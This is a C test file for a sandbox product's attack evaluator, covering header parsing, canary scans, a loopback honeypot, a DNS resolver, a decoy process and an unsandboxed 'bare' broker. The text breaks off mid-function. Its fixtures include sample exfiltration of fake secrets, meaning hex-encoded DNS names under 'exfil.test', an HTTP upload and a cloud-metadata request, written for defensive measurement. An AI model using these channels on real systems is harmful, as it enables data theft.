/*
 * test_eval.c: the rules of `stockade eval` (verify/eval/; issue 6,
 * docs/evidence.md "When an attack succeeds"), each shown to fire on the
 * trace it is for and to stay quiet on a clean run.
 *
 * The parts are tested alone (headers, the tree search, token-named
 * files, leftovers, the honeypot, the decoy), then whole runs
 * (eval_run) of small attacks the test writes itself, against two
 * brokers: "bare", a stand-in for stockade that runs the job with no
 * sandbox at all and whose file API follows links (so that every rule
 * has something to find), and the real stockade, the full product,
 * which must stop them all.
 *
 * Registered twice in tests/meson.build, as the invoking user and as uid
 * 65534 (tests/lib/harness.h).
 */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "eval_canary.h"
#include "eval_corpus.h"
#include "eval_decoy.h"
#include "eval_detect.h"
#include "eval_dns.h"
#include "eval_honeypot.h"
#include "eval_run.h"
#include "eval_table.h"
#include "harness.h"

TestSuite(eval, .init = harness_setup, .fini = harness_cleanup, .timeout = 120);

static void
write_file(const char *dir, const char *name, const void *data, size_t len,
    mode_t mode)
{
	char path[4096];
	int fd;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	cr_assert_geq(fd, 0, "%s: %s", path, strerror(errno));
	cr_assert_eq(write(fd, data, len), (ssize_t)len);
	cr_assert_eq(fchmod(fd, mode), 0);
	close(fd);
}

/* ---- headers ------------------------------------------------------------ */

Test(eval, header_of_a_python_attack)
{
	static const char text[] = "#!/usr/bin/env python3\n"
				   "# family: tricked-helper\n"
				   "# tries: plant a symlink for the file API\n"
				   "# source: none\n"
				   "# exfil: yes\n"
				   "# fileapi: get out/report.txt\n"
				   "# fileapi: put notes.md\n"
				   "import os\n"
				   "# family: not-a-header\n";
	struct eval_attack a = {0};
	struct eval_corpus c = {&a, 1};

	cr_assert_eq(eval_header_parse(&a, EVAL_LANG_PYTHON, text,
			 sizeof(text) - 1),
	    0);
	cr_assert_str_eq(eval_attack_get(&a, "family"), "tricked-helper");
	cr_assert_str_eq(eval_attack_get(&a, "tries"),
	    "plant a symlink for the file API");
	cr_assert(a.exfil);
	cr_assert_eq(a.ngets, 1);
	cr_assert_str_eq(a.gets[0], "out/report.txt");
	cr_assert_eq(a.nputs, 1);
	cr_assert_str_eq(a.puts[0], "notes.md");
	cr_assert_eq(a.nkv, 6, "the comment after the code is not header");
	c.v = calloc(1, sizeof(a));
	*c.v = a;
	eval_corpus_free(&c);
}

Test(eval, header_of_a_c_attack)
{
	static const char text[] =
	    "/*\n * family: injection\n * tries: TIOCSTI\n"
	    " * source: https://example.org/x\n * exfil: no\n */\n"
	    "#include <stdio.h>\n";
	struct eval_attack *a = calloc(1, sizeof(*a));
	struct eval_corpus c = {a, 1};

	cr_assert_eq(eval_header_parse(a, EVAL_LANG_BINARY, text,
			 sizeof(text) - 1),
	    0);
	cr_assert_str_eq(eval_attack_get(a, "family"), "injection");
	cr_assert_str_eq(eval_attack_get(a, "source"), "https://example.org/x");
	cr_assert(!a->exfil);
	eval_corpus_free(&c);
}

Test(eval, invalid_headers_are_refused)
{
	static const char *const bad[] = {
	    "# family: mistake\n# exfil: maybe\n",
	    "# family: mistake\n# fileapi: fetch x\n",
	    "# family: mistake\n# fileapi: get two words\n",
	    "# tries: no family\n",
	    "import os\n# family: mistake\n",
	};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct eval_attack *a = calloc(1, sizeof(*a));
		struct eval_corpus c = {a, 1};

		cr_assert_eq(eval_header_parse(a, EVAL_LANG_SHELL, bad[i],
				 strlen(bad[i])),
		    -EINVAL, "accepted: %s", bad[i]);
		eval_corpus_free(&c);
	}
}

/* What being stopped looks like and what an attempt looks like (issue 23
 * point 9): a closed vocabulary, each word once. */
Test(eval, header_stopped_when_and_attempted_when)
{
	static const char text[] =
	    "# family: mistake\n# exfil: yes\n"
	    "# stopped-when: canary-unread, decoy-unsignalled,no-survivor\n"
	    "# attempted-when: marker\n";
	static const char *const bad[] = {
	    "# family: mistake\n# stopped-when: canary-read\n",
	    "# family: mistake\n# stopped-when:\n",
	    "# family: mistake\n# stopped-when: canary-unread canary-unread\n",
	    "# family: mistake\n# stopped-when: canary-unread\n"
	    "# stopped-when: files-intact\n",
	    "# family: mistake\n# attempted-when: exit-0\n",
	    "# family: mistake\n# attempted-when: marker\n"
	    "# attempted-when: marker\n",
	};
	struct eval_attack *a = calloc(1, sizeof(*a));
	struct eval_corpus c = {a, 1};
	char err[256];

	cr_assert_eq(eval_header_parse(a, EVAL_LANG_SHELL, text,
			 sizeof(text) - 1),
	    0);
	cr_assert_eq(a->stopped_when,
	    EVAL_STOP_CANARY | EVAL_STOP_DECOY | EVAL_STOP_SURVIVOR);
	cr_assert_eq(a->attempted_when, EVAL_ATTEMPT_MARKER);
	cr_assert_eq(eval_header_contract(a, err, sizeof(err)), 0, "%s", err);
	cr_assert_str_eq(eval_stop_name(EVAL_STOP_TERMINAL),
	    "terminal-untouched");
	/* An exfil attack is stopped when its canary is unread. */
	a->stopped_when = EVAL_STOP_FILES;
	cr_assert_eq(eval_header_contract(a, err, sizeof(err)), -EINVAL);
	cr_assert_not_null(strstr(err, "canary-unread"), "%s", err);
	eval_corpus_free(&c);
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		a = calloc(1, sizeof(*a));
		c = (struct eval_corpus){a, 1};
		cr_assert_eq(eval_header_parse(a, EVAL_LANG_SHELL, bad[i],
				 strlen(bad[i])),
		    -EINVAL, "accepted: %s", bad[i]);
		eval_corpus_free(&c);
	}
}

/* A corpus entry without the two lines is refused, by name. */
Test(eval, corpus_entry_must_declare_stopped_and_attempt)
{
	const char *d = harness_tmpdir("stockade-eval-corpus-");
	const char *h = "# family: mistake\n# exfil: no\n"
			"# attempted-when: marker\n";
	struct eval_corpus c;
	char err[512];

	write_file(d, "01-a.py", h, strlen(h), 0644);
	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, NULL, 0, err,
			 sizeof(err)),
	    -EINVAL);
	cr_assert_not_null(strstr(err, "01-a.py"), "%s", err);
	cr_assert_not_null(strstr(err, "stopped-when"), "%s", err);
	/* The hostile programs of tests/verify/eval/codefilter/ (any name)
	 * need neither. */
	cr_assert_eq(eval_corpus_load(&c, d, NULL, true, NULL, 0, err,
			 sizeof(err)),
	    0, "%s", err);
	eval_corpus_free(&c);
}

Test(eval, corpus_directory_and_only)
{
	const char *d = harness_tmpdir("stockade-eval-corpus-");
	const char *h = "# family: mistake\n# exfil: no\n"
			"# stopped-when: pwned-absent\n"
			"# attempted-when: marker\n";
	struct eval_corpus c;
	char err[512];
	char *only[] = {(char[]){"02"}};

	write_file(d, "01-a.py", h, strlen(h), 0644);
	write_file(d, "02-b.sh", h, strlen(h), 0644);
	write_file(d, "03-c",
	    "\x7f"
	    "ELF",
	    4, 0755);
	{
		static const char ch[] = "/*\n * family: injection\n"
					 " * stopped-when: files-intact\n"
					 " * attempted-when: marker\n */\n";

		write_file(d, "03-c.c", ch, sizeof(ch) - 1, 0644);
	}
	write_file(d, "README.md", "x", 1, 0644);
	write_file(d, "04-not-executable", "x", 1, 0644);
	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, NULL, 0, err,
			 sizeof(err)),
	    0, "%s", err);
	cr_assert_eq(c.n, 3);
	cr_assert_str_eq(c.v[0].name, "01-a");
	cr_assert_eq(c.v[0].lang, EVAL_LANG_PYTHON);
	cr_assert_eq(c.v[1].lang, EVAL_LANG_SHELL);
	cr_assert_str_eq(c.v[2].name, "03-c");
	cr_assert_eq(c.v[2].lang, EVAL_LANG_BINARY);
	cr_assert_str_eq(eval_attack_get(&c.v[2], "family"), "injection");
	eval_corpus_free(&c);
	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, only, 1, err,
			 sizeof(err)),
	    0, "%s", err);
	cr_assert_eq(c.n, 1);
	cr_assert_str_eq(c.v[0].name, "02-b");
	eval_corpus_free(&c);
	write_file(d, "02-again.py", h, strlen(h), 0644);
	cr_assert_eq(eval_corpus_load(&c, d, NULL, false, NULL, 0, err,
			 sizeof(err)),
	    -EEXIST);
	cr_assert_not_null(strstr(err, "same number"), "%s", err);
}

/* ---- the searches ------------------------------------------------------- */

static const struct eval_needle needles[] = {
    {"one", "sshkey-0123456789abcdef", 23},
    {"pwned", "PWNED 00112233", 14},
};

Test(eval, canary_in_a_workspace_file_is_found)
{
	const char *d = harness_tmpdir("stockade-eval-scan-");
	char sub[4096], path[256];
	int fd, which = -1;
	char *big;

	snprintf(sub, sizeof(sub), "%s/a", d);
	cr_assert_eq(mkdir(sub, 0755), 0);
	snprintf(sub, sizeof(sub), "%s/a/b", d);
	cr_assert_eq(mkdir(sub, 0755), 0);
	write_file(d, "clean.txt", "nothing here\n", 13, 0644);
	fd = open(d, O_RDONLY | O_DIRECTORY);
	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1 << 20, &which, path,
			 sizeof(path)),
	    0, "a clean tree");
	/* Across the 256 KiB pieces the files are read in. */
	big = malloc(300000);
	memset(big, 'x', 300000);
	memcpy(big + 262144 - 10, "sshkey-0123456789abcdef", 23);
	write_file(sub, "loot.bin", big, 300000, 0600);
	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1 << 20, &which, path,
			 sizeof(path)),
	    1);
	cr_assert_eq(which, 0);
	cr_assert_str_eq(path, "a/b/loot.bin");
	/* A budget too small to reach it finds nothing. */
	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1000, &which, path,
			 sizeof(path)),
	    0);
	free(big);
	close(fd);
}

Test(eval, the_tree_search_follows_no_link_and_opens_no_fifo)
{
	const char *d = harness_tmpdir("stockade-eval-scan-");
	const char *out = harness_tmpdir("stockade-eval-out-");
	char path[4096];
	int fd, which = -1;

	write_file(out, "secret", "PWNED 00112233\n", 15, 0644);
	snprintf(path, sizeof(path), "%s/secret", out);
	cr_assert_eq(symlinkat(path, open(d, O_RDONLY | O_DIRECTORY), "link"),
	    0);
	snprintf(path, sizeof(path), "%s/fifo", d);
	cr_assert_eq(mkfifo(path, 0644), 0);
	fd = open(d, O_RDONLY | O_DIRECTORY);
	cr_assert_eq(eval_scan_tree(fd, needles, 2, 1 << 20, &which, path,
			 sizeof(path)),
	    0);
	close(fd);
}

Test(eval, token_named_file_in_tmp_is_found)
{
	char token[33], name[64], path[128];
	const char *dirs[] = {"/nonexistent-dir", "/tmp"};
	int found;

	harness_random_hex(token, sizeof(token));
	cr_assert_eq(eval_token_files(dirs, 2, token, NULL, NULL), 0);
	snprintf(name, sizeof(name), "x-%s.txt", token);
	write_file("/tmp", name, "x", 1, 0644);
	found = eval_token_files(dirs, 2, token, NULL, NULL);
	snprintf(path, sizeof(path), "/tmp/%s", name);
	unlink(path);
	cr_assert_eq(found, 1);
}

/* Starts `sh -c 'exec -a sleep-TOKEN sleep 60'` in a new session. */
static pid_t
start_marked(const char *token)
{
	char cmd[128];
	pid_t pid;

	snprintf(cmd, sizeof(cmd), "exec -a sleep-%s sleep 60", token);
	pid = fork();
	cr_assert_geq(pid, 0);
	if (pid == 0) {
		setsid();
		execl("/bin/bash", "bash", "-c", cmd, (char *)NULL);
		_exit(127);
	}
	return pid;
}

Test(eval, leftover_process_is_found_and_killed)
{
	char token[33], cmd[256];
	pid_t pids[4], child;
	int n = 0;

	harness_random_hex(token, sizeof(token));
	cr_assert_eq(eval_leftovers(token, pids, 4, cmd, sizeof(cmd)), 0);
	child = start_marked(token);
	/* Found once it has exec'd sleep (bash's own command line holds the
	 * token too, and it empties for a moment during the exec). */
	for (int i = 0; i < 500; i++) {
		n = eval_leftovers(token, pids, 4, cmd, sizeof(cmd));
		if (n == 1 && strncmp(cmd, "sleep-", 6) == 0)
			break;
		usleep(10000);
	}
	cr_assert_eq(n, 1);
	cr_assert_eq(strncmp(cmd, "sleep-", 6), 0, "%s", cmd);
	cr_assert_eq(pids[0], child);
	cr_assert_not_null(strstr(cmd, token), "%s", cmd);
	cr_assert_eq(eval_kill_leftovers(token), 0);
	{
		int status;

		cr_assert_eq(waitpid(child, &status, 0), child);
		cr_assert(WIFSIGNALED(status));
	}
	cr_assert_eq(eval_leftovers(token, pids, 4, NULL, 0), 0);
}

/* ---- the honeypot -------------------------------------------------------- */

Test(eval, honeypot_records_tcp_udp_and_unix)
{
	struct eval_honeypot *hp;
	char err[256], where[32];
	struct sockaddr_in in = {.sin_family = AF_INET,
	    .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	struct sockaddr_un un = {.sun_family = AF_UNIX};
	unsigned char dns[64] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
	    3, 'f', 'o', 'o', 0, 0, 1, 0, 1};
	unsigned char reply[512];
	uint64_t m0;
	int s, which = -1;
	size_t ulen;

	cr_assert_eq(eval_honeypot_start(&hp, err, sizeof(err)), 0, "%s", err);
	m0 = eval_honeypot_mark(hp);
	cr_assert_eq(eval_honeypot_sync(hp), 0);
	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
			 sizeof(where)),
	    0);

	/* TCP, the needle cut in two writes. */
	in.sin_port = htons(eval_honeypot_tcp_port(hp));
	s = socket(AF_INET, SOCK_STREAM, 0);
	cr_assert_eq(connect(s, (struct sockaddr *)&in, sizeof(in)), 0);
	cr_assert_eq(write(s, "xx sshkey-0123", 14), 14);
	usleep(20000);
	cr_assert_eq(write(s, "456789abcdef yy", 15), 15);
	close(s);
	cr_assert_eq(eval_honeypot_sync(hp), 0);
	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
			 sizeof(where)),
	    1);
	cr_assert_eq(which, 0);
	cr_assert_str_eq(where, "tcp");

	/* UDP: a DNS-style query gets an NXDOMAIN answer. */
	m0 = eval_honeypot_mark(hp);
	in.sin_port = htons(eval_honeypot_udp_port(hp));
	s = socket(AF_INET, SOCK_DGRAM, 0);
	memcpy(dns + 21, "PWNED 00112233", 14);
	cr_assert_eq(sendto(s, dns, 35, 0, (struct sockaddr *)&in, sizeof(in)),
	    35);
	{
		struct pollfd p = {s, POLLIN, 0};

		cr_assert_eq(poll(&p, 1, 5000), 1, "no DNS answer");
	}
	cr_assert_eq(recv(s, reply, sizeof(reply), 0), 21);
	cr_assert_eq(reply[0], 0x12);
	cr_assert_eq(reply[3] & 0x0f, 3, "NXDOMAIN");
	close(s);
	cr_assert_eq(eval_honeypot_sync(hp), 0);
	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
			 sizeof(where)),
	    1);
	cr_assert_eq(which, 1);
	cr_assert_str_eq(where, "udp");

	/* The abstract unix socket. */
	m0 = eval_honeypot_mark(hp);
	ulen = strlen(eval_honeypot_unix_name(hp));
	memcpy(un.sun_path + 1, eval_honeypot_unix_name(hp), ulen);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	cr_assert_eq(connect(s, (struct sockaddr *)&un,
			 (socklen_t)(offsetof(struct sockaddr_un, sun_path) +
			     1 + ulen)),
	    0);
	cr_assert_eq(write(s, "PWNED 00112233", 14), 14);
	/* Still open: sync reads what is queued, not only closed ones. */
	cr_assert_eq(eval_honeypot_sync(hp), 0);
	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
			 sizeof(where)),
	    1);
	cr_assert_str_eq(where, "unix");
	close(s);

	/* A window after them all is empty; forgetting keeps what is in
	 * later windows. */
	m0 = eval_honeypot_mark(hp);
	cr_assert_eq(eval_honeypot_sync(hp), 0);
	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
			 sizeof(where)),
	    0);
	eval_honeypot_forget(hp, m0);
	eval_honeypot_stop(hp);
}

/* Sends an HTTP GET to the honeypot's TCP port and returns the answer
 * (malloc'd, NUL-terminated). */
static char *
http_get(struct eval_honeypot *hp)
{
	static const char req[] = "GET /latest/meta-data/ HTTP/1.0\r\n\r\n";
	struct sockaddr_in in = {.sin_family = AF_INET,
	    .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	    .sin_port = htons(eval_honeypot_tcp_port(hp))};
	char *buf = calloc(1, 65536);
	size_t len = 0;
	ssize_t n;
	int s = socket(AF_INET, SOCK_STREAM, 0);

	cr_assert_eq(connect(s, (struct sockaddr *)&in, sizeof(in)), 0);
	cr_assert_eq(write(s, req, sizeof(req) - 1), (ssize_t)sizeof(req) - 1);
	while ((n = read(s, buf + len, 65535 - len)) > 0)
		len += (size_t)n;
	close(s);
	return buf;
}

Test(eval, honeypot_answers_http_with_the_secrets_served)
{
	struct eval_honeypot *hp;
	char err[256], *answer;

	cr_assert_eq(eval_honeypot_start(&hp, err, sizeof(err)), 0, "%s", err);
	cr_assert_eq(eval_honeypot_serve(hp, "service-1111"), 0);
	cr_assert_eq(eval_honeypot_serve(hp, "service-2222"), 0);
	answer = http_get(hp);
	cr_assert_eq(strncmp(answer, "HTTP/1.0 200 OK\r\n", 17), 0, "%s",
	    answer);
	cr_assert_not_null(strstr(answer, "\"service-1111\""), "%s", answer);
	cr_assert_not_null(strstr(answer, "\"service-2222\""), "%s", answer);
	free(answer);
	eval_honeypot_unserve(hp, "service-1111");
	answer = http_get(hp);
	cr_assert_null(strstr(answer, "service-1111"), "%s", answer);
	cr_assert_not_null(strstr(answer, "service-2222"), "%s", answer);
	free(answer);
	eval_honeypot_stop(hp);
}

/* The index (issue 25): 127.0.0.2 at the TCP port, recorded as "index",
 * answering HTTP with no secret even while secrets are served. */
Test(eval, honeypot_index_records_and_answers_without_secrets)
{
	static const char req[] = "POST /upload HTTP/1.1\r\nHost: x\r\n"
				  "Content-Length: 14\r\n\r\nPWNED 00112233";
	struct eval_honeypot *hp;
	struct sockaddr_in in = {.sin_family = AF_INET};
	char err[256], where[32], buf[4096] = "";
	size_t len = 0;
	ssize_t n;
	uint64_t m0;
	int s, which = -1;

	cr_assert_eq(eval_honeypot_start(&hp, err, sizeof(err)), 0, "%s", err);
	cr_assert_eq(eval_honeypot_serve(hp, "service-1111"), 0);
	m0 = eval_honeypot_mark(hp);
	cr_assert_eq(inet_pton(AF_INET, EVAL_INDEX_ADDR, &in.sin_addr), 1);
	in.sin_port = htons(eval_honeypot_tcp_port(hp));
	s = socket(AF_INET, SOCK_STREAM, 0);
	cr_assert_eq(connect(s, (struct sockaddr *)&in, sizeof(in)), 0);
	cr_assert_eq(write(s, req, sizeof(req) - 1), (ssize_t)sizeof(req) - 1);
	while ((n = read(s, buf + len, sizeof(buf) - 1 - len)) > 0)
		len += (size_t)n;
	close(s);
	cr_assert_eq(strncmp(buf, "HTTP/1.0 200 OK\r\n", 17), 0, "%s", buf);
	cr_assert_null(strstr(buf, "service-1111"), "%s", buf);
	cr_assert_eq(eval_honeypot_sync(hp), 0);
	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
			 sizeof(where)),
	    1);
	cr_assert_eq(which, 1);
	cr_assert_str_eq(where, "index");
	eval_honeypot_stop(hp);
}

/* ---- the eval's resolver (eval_dns.h) ----------------------------------- */

/* A query (id 0x4242, RD) for NAME (dotted) of TYPE, class IN, into Q;
 * its length. */
static size_t
dns_query(const char *name, unsigned type, unsigned char *q)
{
	size_t at = 12;
	const char *p = name;

	memcpy(q,
	    (const unsigned char[]){0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0},
	    12);
	while (*p != '\0') {
		size_t n = strcspn(p, ".");

		q[at++] = (unsigned char)n;
		memcpy(q + at, p, n);
		at += n;
		p += n + (p[n] == '.');
	}
	q[at++] = 0;
	q[at++] = 0, q[at++] = (unsigned char)type;
	q[at++] = 0, q[at++] = 1;
	return at;
}

/* The reply's RCODE, answer count and, with one, its address. */
static void
dns_ask(const char *name, unsigned type, int *rcode, int *an, char *addr)
{
	unsigned char q[300], r[EVAL_DNS_REPLY_MAX(300)];
	size_t ql = dns_query(name, type, q);
	size_t rl = eval_dns_reply(q, ql, r);

	cr_assert_geq(rl, ql, "%s: the question is not echoed", name);
	cr_assert_eq(memcmp(r, q, 2), 0, "%s: not the query's id", name);
	cr_assert_eq(r[2] & 0x80, 0x80, "%s: not a response", name);
	cr_assert_eq(memcmp(r + 12, q + 12, ql - 12), 0, "%s", name);
	*rcode = r[3] & 0x0f;
	*an = r[6] << 8 | r[7];
	addr[0] = '\0';
	if (*an == 1) {
		cr_assert_eq(rl, ql + 16, "%s", name);
		cr_assert_eq(r[ql + 11], 4, "%s: RDLENGTH", name);
		inet_ntop(AF_INET, r + ql + 12, addr, INET_ADDRSTRLEN);
	}
}

/* The eval's names get their loopback or link-local address (case and a
 * trailing dot aside), any other name NXDOMAIN: the allow-list
 * configurations dial nothing beyond loopback. */
Test(eval, resolver_answers_its_names_only)
{
	static const struct {
		const char *name, *addr;
	} want[] = {
	    {"rebind.test", "127.0.0.1"},
	    {"ReBind.TEST", "127.0.0.1"},
	    {"metadata.test", "169.254.169.254"},
	    {"front.test", EVAL_INDEX_ADDR},
	};
	char addr[INET_ADDRSTRLEN];
	int rcode, an;

	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		dns_ask(want[i].name, 1, &rcode, &an, addr);
		cr_assert_eq(rcode, 0, "%s", want[i].name);
		cr_assert_eq(an, 1, "%s", want[i].name);
		cr_assert_str_eq(addr, want[i].addr, "%s", want[i].name);
	}
	dns_ask("rebind.test", 28, &rcode, &an, addr); /* AAAA */
	cr_assert_eq(rcode, 0);
	cr_assert_eq(an, 0);
	dns_ask("x.rebind.test", 1, &rcode, &an, addr);
	cr_assert_eq(rcode, 3, "NXDOMAIN");
	cr_assert_eq(an, 0);
	dns_ask("61.exfil.test", 1, &rcode, &an, addr);
	cr_assert_eq(rcode, 3, "NXDOMAIN");
	dns_ask("example.com", 1, &rcode, &an, addr);
	cr_assert_eq(rcode, 3, "NXDOMAIN");
}

/* What a name spells in hex: its leading hex labels, decoded. */
Test(eval, resolver_decodes_hex_labels)
{
	unsigned char q[300], out[64];
	size_t n;

	n = eval_dns_hex_payload(q,
	    dns_query("50574e4544.2030.exfil.test", 1, q), out, sizeof(out));
	cr_assert_eq(n, 7);
	cr_assert_eq(memcmp(out, "PWNED 0", 7), 0);
	n = eval_dns_hex_payload(q, dns_query("50574E4544.zz.41.test", 1, q),
	    out, sizeof(out));
	cr_assert_eq(n, 5, "stops at the first label that is no hex");
	cr_assert_eq(memcmp(out, "PWNED", 5), 0);
	cr_assert_eq(eval_dns_hex_payload(q, dns_query("505.exfil.test", 1, q),
			 out, sizeof(out)),
	    0, "an odd number of digits is no hex label");
	cr_assert_eq(eval_dns_hex_payload(q, dns_query("rebind.test", 1, q),
			 out, sizeof(out)),
	    0);
	n = eval_dns_hex_payload(q, dns_query("50574e4544", 1, q), out, 3);
	cr_assert_eq(n, 3, "OUT's size bounds it");
	cr_assert_eq(eval_dns_hex_payload(q, 11, out, sizeof(out)), 0);
}

/* The honeypot, as the resolver, records what a query's name spells as
 * the channel "dns", and answers it. */
Test(eval, honeypot_records_names_as_dns)
{
	struct eval_honeypot *hp;
	char err[256], where[32];
	struct sockaddr_in in = {.sin_family = AF_INET,
	    .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	unsigned char q[300], reply[512];
	size_t ql = dns_query("50574e4544203030.313132323333.exfil.test", 1, q);
	struct pollfd p = {.events = POLLIN};
	uint64_t m0;
	int which = -1;

	cr_assert_eq(eval_honeypot_start(&hp, err, sizeof(err)), 0, "%s", err);
	m0 = eval_honeypot_mark(hp);
	in.sin_port = htons(eval_honeypot_udp_port(hp));
	p.fd = socket(AF_INET, SOCK_DGRAM, 0);
	cr_assert_eq(sendto(p.fd, q, ql, 0, (struct sockaddr *)&in, sizeof(in)),
	    (ssize_t)ql);
	cr_assert_eq(poll(&p, 1, 5000), 1, "no DNS answer");
	cr_assert_eq(recv(p.fd, reply, sizeof(reply), 0), (ssize_t)ql);
	cr_assert_eq(reply[3] & 0x0f, 3, "NXDOMAIN");
	close(p.fd);
	cr_assert_eq(eval_honeypot_sync(hp), 0);
	cr_assert_eq(eval_honeypot_find(hp, m0, needles, 2, &which, where,
			 sizeof(where)),
	    1);
	cr_assert_eq(which, 1);
	cr_assert_str_eq(where, "dns");
	eval_honeypot_stop(hp);
}

/* ---- the configurations ------------------------------------------------- */

/* Isolation's allow-list columns (issue 25): every layer on in "fs +
 * allow-list", files open in "allow-list only"; root gets the product's
 * columns only. */
Test(eval, isolation_has_the_allow_list_columns)
{
	struct eval_matrix m;

	memset(&m, 0, sizeof(m));
	cr_assert_eq(eval_select_matrix("isolation", &m), 0);
	cr_assert_str_eq(m.cfg[m.ncfg - 1].name, "allow_list");
	cr_assert(m.cfg[m.ncfg - 1].allow_list);
	cr_assert_eq(m.cfg[m.ncfg - 1].layers_off, 0u);
	if (geteuid() == 0) {
		cr_assert_eq(m.ncfg, 2);
		cr_assert_str_eq(m.cfg[0].name, "both");
		return;
	}
	cr_assert_eq(m.ncfg, 6);
	cr_assert_str_eq(m.cfg[4].name, "allow_list_only");
	cr_assert(m.cfg[4].allow_list);
	cr_assert_neq(m.cfg[4].layers_off, 0u);
	for (size_t c = 0; c < 4; c++)
		cr_assert_not(m.cfg[c].allow_list, "%s", m.cfg[c].name);
	cr_assert_eq(eval_select_matrix("layers", &m), 0);
	for (size_t c = 0; c < m.ncfg; c++)
		cr_assert_not(m.cfg[c].allow_list, "%s", m.cfg[c].name);
}

/* ---- the decoy ---------------------------------------------------------- */

/* stockade-eval beside the stockade under test (the decoy's program). */
static const char *
eval_program(void)
{
	static char path[4096];
	char *slash;

	snprintf(path, sizeof(path), "%s", harness_stockade());
	slash = strrchr(path, '/');
	cr_assert_not_null(slash);
	snprintf(slash, sizeof(path) - (size_t)(slash - path),
	    "/stockade-eval");
	cr_assert_eq(access(path, X_OK), 0, "%s: %s", path, strerror(errno));
	return path;
}

Test(eval, decoy_records_signals_and_death)
{
	struct eval_decoy d;
	char what[128], path[64], *cmd;
	size_t len;

	cr_assert_eq(eval_decoy_start(&d, eval_program(), "decoyargv-abc",
			 "decoyenv-def"),
	    0);
	cr_assert_eq(eval_decoy_check(&d, what, sizeof(what)), 0);
	snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)d.pid);
	cmd = harness_read_file(path, &len);
	cr_assert_not_null(cmd);
	cr_assert_not_null(memmem(cmd, len, "decoyargv-abc", 13));
	free(cmd);
	snprintf(path, sizeof(path), "/proc/%d/environ", (int)d.pid);
	cmd = harness_read_file(path, &len);
	cr_assert_not_null(cmd);
	cr_assert_not_null(memmem(cmd, len, "DECOY_SECRET=decoyenv-def", 25));
	free(cmd);
	cr_assert_eq(kill(d.pid, SIGUSR1), 0);
	for (int i = 0;
	     i < 100 && eval_decoy_check(&d, what, sizeof(what)) == 0; i++)
		usleep(10000);
	cr_assert_str_eq(what, "received SIGUSR1");
	eval_decoy_stop(&d);

	cr_assert_eq(eval_decoy_start(&d, eval_program(), "a", "b"), 0);
	cr_assert_eq(kill(d.pid, SIGKILL), 0);
	for (int i = 0;
	     i < 100 && eval_decoy_check(&d, what, sizeof(what)) == 0; i++)
		usleep(10000);
	cr_assert_str_eq(what, "killed by SIGKILL");
	eval_decoy_stop(&d);
}

/* ---- whole runs --------------------------------------------------------- */

/*
 * "bare": stockade's command line with no sandbox behind it. `run`
 * executes the job in the workspace with the caller's environment and
 * terminal, and prints a result; `get` and `put` follow every link (the
 * careless file API). The decoy is stockade-eval's own (eval_ctx.decoy).
 */
static const char bare[] =
    "#!/usr/bin/python3\n"
    "import json, os, shutil, subprocess, sys, time\n"
    "a = sys.argv[1:]\n"
    "def opt(n):\n"
    "    return a[a.index(n) + 1]\n"
    "ws = opt('--workspace')\n"
    "if a[0] == 'run':\n"
    "    t = time.monotonic()\n"
    "    p = subprocess.run(a[a.index('--') + 1:], cwd=ws,\n"
    "                       capture_output=True, timeout=20)\n"
    "    print(json.dumps({'status': 'ok' if p.returncode == 0 else\n"
    "                      'exit_nonzero', 'exit_code': p.returncode,\n"
    "                      'stdout': p.stdout.decode('utf-8', 'replace'),\n"
    "                      'stderr': p.stderr.decode('utf-8', 'replace'),\n"
    "                      'stdout_bytes': len(p.stdout),\n"
    "                      'wall_ms': int((time.monotonic() - t) * 1000)}))\n"
    "    sys.exit(0 if p.returncode == 0 else 1)\n"
    "if a[0] == 'get':\n"
    "    shutil.copyfile(os.path.join(ws, a[-2]), a[-1])\n"
    "if a[0] == 'put':\n"
    "    shutil.copyfile(a[-2], os.path.join(ws, a[-1]))\n";

struct fixture {
	const char *dir; /* the attacks, the bare broker */
	char bare_path[4096];
	struct eval_honeypot *hp;
	struct eval_ctx ctx;
	char policy[4096];
	unsigned id;
};

static void
fixture_init(struct fixture *f)
{
	char err[256];
	const char *base;

	memset(f, 0, sizeof(*f));
	f->dir = harness_tmpdir("stockade-eval-attacks-");
	cr_assert_eq(chmod(f->dir, 0755), 0);
	snprintf(f->bare_path, sizeof(f->bare_path), "%s/bare", f->dir);
	write_file(f->dir, "bare", bare, strlen(bare), 0755);
	base = harness_tmpdir("stockade-eval-base-");
	cr_assert_eq(chmod(base, 0711), 0);
	snprintf(f->policy, sizeof(f->policy), "%s/policy.ini", base);
	{
		static const char pol[] = "[limits]\nwall_time_ms = 10000\n"
					  "stdout_kb = 64\n";

		write_file(base, "policy.ini", pol, strlen(pol), 0644);
	}
	cr_assert_eq(eval_honeypot_start(&f->hp, err, sizeof(err)), 0, "%s",
	    err);
	f->ctx.base = base;
